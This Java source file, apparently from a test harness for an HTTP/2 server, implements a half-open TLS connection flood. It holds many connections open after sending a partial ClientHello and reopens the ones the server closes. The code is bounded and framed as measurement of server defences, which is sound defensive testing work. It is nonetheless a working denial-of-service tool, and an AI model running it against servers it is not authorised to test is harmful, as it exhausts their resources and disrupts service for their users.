package io.github.http2wildfly.measure.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.time.Duration;
import java.time.Instant;
import java.util.Iterator;

/**
 * Half-open TLS handshakes (issue shield): connections from one client address that each send the first bytes of a
 * ClientHello and then nothing, held for the attack's time; every {@code reopenEvery} the ones the server closed are
 * opened again, so that the server is always asked to hold as many as the attacker picked. A bounded client: at most
 * its connections at once, at most its time, every socket closed at the end.
 */
public final class HalfOpenFlood {

    /** What the server did: connections opened in all (reopenings counted), and how many it closed or refused. */
    public record Held(int atOnce, int opened, int closedOrRefused, Duration took) {

        @Override
        public String toString() {
            return String.format("%,d half-open connections at once for %d s: %,d opened in all, %,d closed or refused by the server",
                    atOnce, took.toSeconds(), opened, closedOrRefused);
        }
    }

    /** The first bytes of a ClientHello: a handshake record announcing 512 bytes, and the start of the message. */
    private static final byte[] HALF_A_CLIENT_HELLO = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, (byte) 0xfc, 0x03, 0x03};

    private HalfOpenFlood() {
    }

    /** The first bytes of a ClientHello and no more: what each of the flood's connections sends. */
    public static byte[] halfAClientHello() {
        return HALF_A_CLIENT_HELLO.clone();
    }

    /** {@code connections} half-open connections to {@code door} from {@code from}, held for {@code time}. */
    public static Held against(InetSocketAddress door, InetAddress from, int connections, Duration time, Duration reopenEvery)
            throws IOException, InterruptedException {
        return held(door, from, connections, time, reopenEvery, true);
    }

    /**
     * The same gently, as the server check sends them: none opened again, so that it ends once the server has closed or
     * refused them all, or at its time.
     */
    public static Held heldOnce(InetSocketAddress door, InetAddress from, int connections, Duration time)
            throws IOException, InterruptedException {
        return held(door, from, connections, time, Duration.ofMillis(100), false);
    }

    private static Held held(InetSocketAddress door, InetAddress from, int connections, Duration time, Duration every, boolean reopen)
            throws IOException, InterruptedException {
        Instant started = Instant.now();
        Instant deadline = started.plus(time);
        int opened = 0;
        int closedOrRefused = 0;
        ByteBuffer discard = ByteBuffer.allocate(4_096);
        try (Selector held = Selector.open()) {
            try {
                while (Instant.now().isBefore(deadline) && (reopen || opened == 0 || !held.keys().isEmpty())) {
                    held.selectNow();
                    for (Iterator<SelectionKey> readable = held.selectedKeys().iterator(); readable.hasNext(); ) {
                        SelectionKey key = readable.next();
                        readable.remove();
                        if (closedByTheServer((SocketChannel) key.channel(), discard)) {
                            key.cancel();
                            close((SocketChannel) key.channel());
                            closedOrRefused++;
                        }
                    }
                    held.selectNow(); // the cancelled keys leave the selector's count
                    while ((reopen ? held.keys().size() : opened) < connections && Instant.now().isBefore(deadline)) {
                        opened++;
                        try {
                            halfOpen(door, from).register(held, SelectionKey.OP_READ);
                        } catch (IOException refused) {
                            closedOrRefused++;
                        }
                    }
                    Thread.sleep(Math.max(1, Math.min(every.toMillis(), Duration.between(Instant.now(), deadline).toMillis())));
                }
            } finally {
                held.keys().forEach(key -> close((SocketChannel) key.channel()));
            }
        }
        return new Held(connections, opened, closedOrRefused, Duration.between(started, Instant.now()));
    }

    private static SocketChannel halfOpen(InetSocketAddress door, InetAddress from) throws IOException {
        SocketChannel channel = SocketChannel.open();
        try {
            channel.bind(new InetSocketAddress(from, 0));
            channel.socket().connect(door, 1_000);
            channel.write(ByteBuffer.wrap(HALF_A_CLIENT_HELLO));
            channel.configureBlocking(false);
            return channel;
        } catch (IOException refused) {
            close(channel);
            throw refused;
        }
    }

    /** Whether the server has closed it (an end of stream or a reset); a TLS alert before the close is read and dropped. */
    private static boolean closedByTheServer(SocketChannel channel, ByteBuffer discard) {
        try {
            int read;
            do {
                discard.clear();
                read = channel.read(discard);
            } while (read > 0);
            return read < 0;
        } catch (IOException reset) {
            return true;
        }
    }

    private static void close(SocketChannel channel) {
        try {
            channel.close();
        } catch (IOException alreadyGone) {
            // closed is what we want
        }
    }
}
